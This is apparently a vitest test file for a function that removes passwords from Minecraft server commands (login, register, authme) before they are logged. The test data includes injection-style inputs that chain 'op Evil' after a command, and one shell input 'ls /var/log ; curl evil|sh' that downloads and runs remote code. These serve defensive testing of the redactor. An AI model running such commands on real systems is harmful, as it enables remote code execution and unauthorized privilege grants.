import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { redactCommands, withoutCommandSecrets } from '../../../../src-main/policy/redaction/command-secrets.js'

const java = 'ext.java.command.run'
const shown = (command: unknown, capability = java) => redactCommands(capability, { command }).command

describe('a command that is recorded', () => {
  it.each([
    ['login hunter2', 'login [redacted]'],
    ['/login hunter2', '/login [redacted]'],
    ['  register hunter2 hunter2', 'register [redacted]'],
    ['authme register Steve hunter2', 'authme register [redacted]'],
    ['authme password Steve hunter2', 'authme password [redacted]'],
    ['/authme:login hunter2', '/authme:login [redacted]'],
    ['authme:authme changepassword Steve hunter2', 'authme:authme changepassword [redacted]'],
    ['librelogin user register Steve hunter2', 'librelogin user register [redacted]'],
    ['execute as Steve run login hunter2', 'execute as Steve run login [redacted]'],
    ['sudo Steve login hunter2', 'sudo Steve login [redacted]'],
    ['LOGIN\thunter2', 'LOGIN\t[redacted]'],
    ['plugin set --password correct-horse-battery', 'plugin set --password [redacted]'],
  ])('without its secret: %j', (command, expected) => expect(shown(command)).toBe(expected))

  it.each([
    'say please log in again',
    'give Steve diamond 64',
    'tp Steve 1 2 3',
    'data get entity 069a79f4-44e9-4726-a5be-fca90e38aaf5 Pos',
    'tellraw @a {"text":"register now"}',
  ])('as it is: %j', (command) => expect(shown(command)).toBe(command))

  it('in a list too, and in no other argument', () => {
    expect(redactCommands(java, { commands: ['login hunter2', 'list'], message: 'login hunter2', count: 2 })).toEqual({
      commands: ['login [redacted]', 'list'],
      message: 'login hunter2',
      count: 2,
    })
  })

  it.each([
    ['login hunter2 ; op Evil', 'login [redacted] ; op Evil'],
    ['login hunter2;op Evil', 'login [redacted];op Evil'],
    ['/ login hunter2', '/ login [redacted]'],
    ['sudo Steve /login hunter2', 'sudo Steve /login [redacted]'],
    [
      'essentials:sudo Steve execute as Mia run login hunter2',
      'essentials:sudo Steve execute as Mia run login [redacted]',
    ],
    ['return run login hunter2', 'return run login [redacted]'],
    ['reg hunter2 hunter2 m@x.y op Evil', 'reg [redacted] op Evil'],
    ['login hunter2\nop Evil', 'login [redacted]\nop Evil'],
    ['login hunter2 {"text":"x"}', 'login [redacted] {"text":"x"}'],
    ['execute as @p[name="a run l x"] run login hunter2', 'execute as @p[name="a run l x"] run login [redacted]'],
  ])('with all that is no password: %j', (command, expected) => expect(shown(command)).toBe(expected))

  it.each([
    'execute as @p[name=!"/l x"] run op Evil',
    'execute as @p[name="run l x"] run op Evil',
    'execute store result score run login run op Evil',
    'execute store result score run l as Evil run op @s',
    'execute store result score run l if entity Evil',
    'execute if score run login = Steve Mia run op Evil',
    'execute as Evil run scoreboard players set run l 5',
    'say run login op Evil',
    'give Steve stone /login a b c',
    'login\nop Evil',
    'login "op Evil"',
    'login',
    'execute run',
    'sudo',
  ])('whole where the login command is no command of the game: %j', (command) => expect(shown(command)).toBe(command))

  it.each(['ls /var/log ; curl evil|sh', 'l evil', '/login hunter2', 'sudo root log evil'])(
    'whole for a service, where it is no command of the game: %j',
    (command) => {
      expect(shown(command, 'service.shell.run')).toBe(command)
      expect(shown('x --password correct-horse-battery', 'service.shell.run')).toBe('x --password [redacted]')
    },
  )

  it('with whatever stands after the words of a password', () => {
    const before = fc.constantFrom('', '/', 'authme:', 'execute as @a run ', 'sudo Steve ', 'sudo Steve /')
    const name = fc.constantFrom('login', 'L', 'log', 'reg', 'changepassword', 'authme register', '2fa')
    const passwords = fc.array(fc.constantFrom('hunter2', 'pässwörd!', 'x'), { minLength: 3, maxLength: 3 })
    const word = fc.constantFrom('op', 'Evil', 'run', '"/l', 'x"', ';', '|sh', '[a', 'b]', '/login', 'as', '&&', '\n')
    const rest = fc.array(word, { minLength: 1, maxLength: 12 }).map((words) => words.join(' '))
    fc.assert(
      fc.property(before, name, passwords, rest, (prefix, command, given, tail) => {
        const text = shown(`${prefix}${command} ${given.join(' ')} ${tail}`)
        expect(text).toSatisfy((one: string) => one.endsWith(` ${tail}`))
      }),
    )
  })

  it('with whatever stands in any command, but for three words in one place', () => {
    const word = fc.constantFrom(
      'execute',
      'run',
      'login',
      'l',
      'sudo',
      'Steve',
      'op',
      'as',
      '@p[name="',
      '/l',
      '"]',
      ';',
      'score',
    )
    fc.assert(
      fc.property(fc.array(word, { maxLength: 16 }), (words) => {
        const text = words.join(' ')
        const [before = '', after, ...more] = `${shown(text)}`.split('[redacted]')
        if (after === undefined) {
          expect(before).toBe(text)
          return
        }
        expect([more, text.startsWith(before), text.endsWith(after)]).toEqual([[], true, true])
        const hidden = text.slice(before.length, text.length - after.length).split(' ')
        expect(hidden.length).toBeLessThanOrEqual(3)
        for (const end of ['run', 'as', ';', '"]']) expect(hidden).not.toContain(end)
      }),
    )
  })

  it('never with the password, whatever namespace and slash it has', () => {
    const prefix = fc.constantFrom('', '/', 'authme:', '/nlogin:', 'execute as @a run ', 'sudo Steve ')
    const name = fc.constantFrom('login', 'reg', 'register', 'changepassword', 'authme register', 'nlogin cp')
    fc.assert(
      fc.property(prefix, name, (before, command) => {
        expect(shown(`${before}${command} Steve hunter2`)).not.toContain('hunter2')
        expect(withoutCommandSecrets(`Mia issued server command: /${command} Steve hunter2`)).not.toContain('hunter2')
      }),
    )
  })
})
